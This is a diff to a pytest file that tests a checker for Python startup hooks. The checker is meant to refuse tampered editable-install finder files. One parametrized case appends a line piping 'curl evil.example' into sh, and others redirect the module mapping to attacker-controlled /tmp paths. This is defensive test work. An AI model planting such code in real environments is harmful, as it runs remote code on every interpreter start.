@@ -10,6 +10,7 @@ import hashlib
 import os
 import shutil
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -154,18 +155,48 @@ def test_module_imported_by_an_allowed_pth_must_be_allowed_too(site: Path) -> No
     assert "imported at every start by distutils-precedence.pth" in verdicts[1].hook.detail
 
 
+def _finder(checkout: str = "/home/dev/gateway", version: str = "0.1.0") -> str:
+    """What `pip install -e .` writes, from the locked setuptools' own template."""
+    from setuptools.command.editable_wheel import _finder_template
+
+    return _finder_template(f"__editable__.gateway-{version}.finder",
+                            {"gateway_cli": f"{checkout}/gateway_cli"}, {})
+
+
 def test_editable_finder_is_allowed_only_in_its_exact_form(site: Path) -> None:
     pth = site / "__editable__.gateway-0.1.0.pth"
     finder = site / "__editable___gateway_0_1_0_finder.py"
-    finder.write_text("MAPPING = {}\ndef install(): pass\n")
+    finder.write_text(_finder())
     owners = {pth.name: "gateway", finder.name: "gateway"}
     pth.write_text("import __editable___gateway_0_1_0_finder; "
                    "__editable___gateway_0_1_0_finder.install()")
+    assert [v.rule is not None for v in _judge(site, owners)] == [True, True]
+    finder.write_text(_finder("/srv/other checkout", "2.3.4"))  # any path, any version
     assert [v.rule is not None for v in _judge(site, owners)] == [True, True]
     pth.write_text("import __editable___gateway_0_1_0_finder; "
                    "__editable___gateway_0_1_0_finder.install(); import os")
     [verdict] = _judge(site, owners)
     assert verdict.rule is None and "does not match the allowed pattern" in verdict.reason
+
+
+@pytest.mark.parametrize("change", [
+    lambda text: text + "\nimport os; os.system('curl evil.example | sh')\n",  # appended
+    lambda text: text.replace("def install():", "import os\ndef install():"),
+    lambda text: text.replace("'gateway_cli': ", "'gateway_cli': '/tmp/x', 'requests': "),
+    lambda text: text + "\nMAPPING: dict[str, str] = {'gateway_cli': '/tmp/evil/gateway_cli'}\n",
+    lambda text: "MAPPING = {}\ndef install(): pass\n",
+])
+def test_an_editable_finder_with_code_added_is_refused(site: Path, change: Any) -> None:
+    """The attack: edit the finder the allowed .pth imports and rewrite its RECORD hash;
+    ownership alone would vouch for it."""
+    pth = site / "__editable__.gateway-0.1.0.pth"
+    finder = site / "__editable___gateway_0_1_0_finder.py"
+    pth.write_text("import __editable___gateway_0_1_0_finder; "
+                   "__editable___gateway_0_1_0_finder.install()")
+    finder.write_text(change(_finder()))
+    verdicts = _judge(site, {pth.name: "gateway", finder.name: "gateway"})
+    assert verdicts[0].rule is not None and verdicts[1].rule is None
+    assert "not what the locked setuptools generates" in verdicts[1].reason
 
 
 def test_unknown_hook_is_not_on_the_allow_list(site: Path, tmp_path: Path) -> None:
